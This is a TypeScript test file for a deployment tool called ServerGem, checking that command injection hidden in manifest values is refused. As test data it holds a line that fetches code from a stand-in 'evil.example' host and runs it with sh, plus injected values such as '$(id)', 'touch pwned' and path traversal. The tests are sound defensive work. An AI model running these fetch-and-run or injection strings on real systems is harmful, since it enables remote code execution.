import { afterEach, describe, expect, it } from 'vitest';
import { parseCommand } from '#common';
import { tempApps } from '#testing';
import { analyzeSource } from './analyze.js';
import { isValidValue, type ValueKind } from './manifest-values.js';

const { app, cleanup } = tempApps('servergem-values-');
afterEach(cleanup);

const INJECTED = 'app && curl -o /tmp/x https://evil.example/x && sh /tmp/x';

describe(isValidValue.name, () => {
  it.each<[ValueKind, string[], string[]]>([
    ['cargo-name', ['axum-hello', 'shop_api', 'r2d2'], [INJECTED, 'a b', 'x;y', '$(id)', '', 'a'.repeat(65)]],
    ['go-package-dir', ['cmd/api', 'services/billing-v2', 'cmd/x.y~z'], ['cmd/x;y', '../up', 'cmd/$(id)', '-flag', 'cmd/a b']],
    ['maven-jar', ['shop-1.0.0.jar', 'app-2.1.0+build.7.jar'], ['a b.jar', 'x;y.jar', 'app.war', '-x.jar']],
    ['gradle-project-dir', ['app', 'services/api'], ['app; touch x', '../x', 'a b']],
    ['dotnet-project', ['Api.csproj', 'src/My App/My App.csproj', 'Shop.Web.fsproj'], ['x;y.csproj', 'a$(id).csproj', 'Api.sln', '../Api.csproj']],
    ['dotnet-assembly', ['Shop.Web', 'My App'], ['a;b', '$(id)', '-x']],
    ['python-module', ['mysite', 'config.settings'], ['my-pkg.app', '1x', 'a;b']],
    ['python-app', ['app:app', 'pkg.main:api', 'app:create_app()'], ['app', 'my-pkg.app:app', 'app:create_app(1)', 'app:app;id', 'app:$(id)']],
    ['python-script', ['serve', 'my-app', 'api.v2'], ['-x', 'a b', 'a;b']],
    ['elixir-release', ['shop', 'my_app'], ['Shop', 'my-app', 'a;b']],
    ['npm-script', ['start', 'build:prod', 'serve-dev'], ['-x', 'a b', 'a;b', '$(id)']],
    ['repo-path', ['.', 'server.js', './server.js', 'src/index.js', 'dist/browser', 'public/'], ['../x', '/etc', '-x.js', 'a b.js', 'x;y.js', 'x\nRUN id']],
  ])('%s: accepts its grammar and refuses the rest', (kind, good, bad) => {
    for (const value of good) expect([value, isValidValue(kind, value)]).toEqual([value, true]);
    for (const value of bad) expect([value, isValidValue(kind, value)]).toEqual([value, false]);
  });
});

/** Every command of a report: plain words of the detector's own, never the refused value. */
function commandsOf(report: { commands: { install: string[]; build: string[]; start: string | null } }): string[] {
  return [...report.commands.install, ...report.commands.build, ...(report.commands.start ? [report.commands.start] : [])];
}

describe('detectors refuse manifest values that fail their grammar', () => {
  it.each<[string, Record<string, string>, string]>([
    ['a Cargo package name', { 'Cargo.toml': `[package]\nname = "${INJECTED}"\nversion = "0.1.0"\n`, 'src/main.rs': 'fn main() {}\n' }, INJECTED],
    [
      'a [[bin]] name',
      { 'Cargo.toml': '[package]\nname = "ok"\nversion = "0.1.0"\n\n[[bin]]\nname = "x; touch pwned"\npath = "src/x.rs"\n', 'src/x.rs': 'fn main() {}\n' },
      'x; touch pwned',
    ],
    ['a Go command folder', { 'go.mod': 'module example.com/x\n\ngo 1.22\n', 'cmd/x;touch pwned/main.go': 'package main\n\nfunc main() {}\n' }, 'touch pwned'],
    [
      "a Maven jar's finalName",
      {
        'pom.xml':
          '<project><artifactId>a</artifactId><version>1</version><build><finalName>app;touch pwned</finalName><plugins><plugin><artifactId>maven-shade-plugin</artifactId></plugin></plugins></build></project>\n',
      },
      'touch pwned',
    ],
    [
      'a Gradle subproject',
      {
        'settings.gradle': "include 'app; touch pwned'\n",
        'app; touch pwned/build.gradle': "plugins { id 'application' }\n",
      },
      'touch pwned',
    ],
    [
      '.NET assembly name',
      {
        'Api.csproj':
          '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><AssemblyName>Api;touch</AssemblyName><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>\n',
      },
      'Api;touch',
    ],
    ['a package.json "main"', { 'package.json': JSON.stringify({ main: 'index.js;touch pwned' }), 'index.js;touch pwned': 'x' }, 'touch pwned'],
    ['a Python module path', { 'requirements.txt': 'flask\ngunicorn\n', 'my-pkg/app.py': 'from flask import Flask\napp = Flask(__name__)\n' }, 'my-pkg'],
    ['a Streamlit file name', { 'requirements.txt': 'streamlit\n', '$(touch pwned).py': 'import streamlit as st\n' }, 'touch pwned'],
    ['a Staticfile root', { Staticfile: 'root: $(touch pwned)\n', 'index.html': '<p>hi</p>\n' }, 'touch pwned'],
  ])('%s', async (_what, files, needle) => {
    const report = await analyzeSource(app(files));
    expect(report.warnings.join('\n')).toMatch(/ServerGem refused it and put it into no command\./);
    expect(JSON.stringify([commandsOf(report), report.staticDir ?? null])).not.toContain(needle);
  });

  it('builds the binaries that are valid and refuses the one that is not', async () => {
    const report = await analyzeSource(
      app({
        'Cargo.toml': `[package]\nname = "${INJECTED}"\nversion = "0.1.0"\n`,
        'src/main.rs': 'fn main() {}\n',
        'src/bin/server.rs': 'fn main() { let _ = std::net::TcpListener::bind("0.0.0.0:9090"); }\n',
      }),
    );
    expect(report.commands).toEqual({
      install: ['cargo fetch'],
      build: ['cargo build --release --bin server', 'mkdir -p bin', 'cp target/release/server bin/'],
      start: './bin/server',
    });
    expect(report.warnings[0]).toBe(
      `The Cargo package or binary name "${INJECTED}" in Cargo.toml is not valid ([a-zA-Z0-9_-]+); ServerGem refused it and put it into no command.`,
    );
  });

  it('quotes what a grammar allows but a shell would read otherwise', async () => {
    const factory = await analyzeSource(
      app({ 'requirements.txt': 'flask\ngunicorn\n', 'app.py': 'from flask import Flask\ndef create_app():\n    return Flask(__name__)\n' }),
    );
    expect(factory.commands.start).toBe("gunicorn --bind 0.0.0.0:${PORT:-8000} 'app:create_app()'");

    const spaced = await analyzeSource(
      app({ 'My App.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>\n' }),
    );
    expect(spaced.commands.start).toBe("dotnet 'out/My App.dll'");
    expect(parseCommand(spaced.commands.start!).argv).toEqual(['dotnet', 'out/My App.dll']);
  });

  it('skips a workspace folder whose name is not a plain path, and says so', async () => {
    const report = await analyzeSource(
      app({
        'package.json': JSON.stringify({ workspaces: ['apps/*'] }),
        'apps/web/package.json': JSON.stringify({ scripts: { start: 'node server.js' } }),
        'apps/web/server.js': 'require("http").createServer().listen(process.env.PORT || 3000);\n',
        'apps/x;touch pwned/package.json': JSON.stringify({ scripts: { start: 'node server.js' } }),
      }),
    );
    expect(report.services.map((s) => s.appPath)).toEqual(['apps/web']);
    expect(report.warnings.join('\n')).toContain('The file path "apps/x;touch pwned" in package.json workspaces is not valid');
  });
});
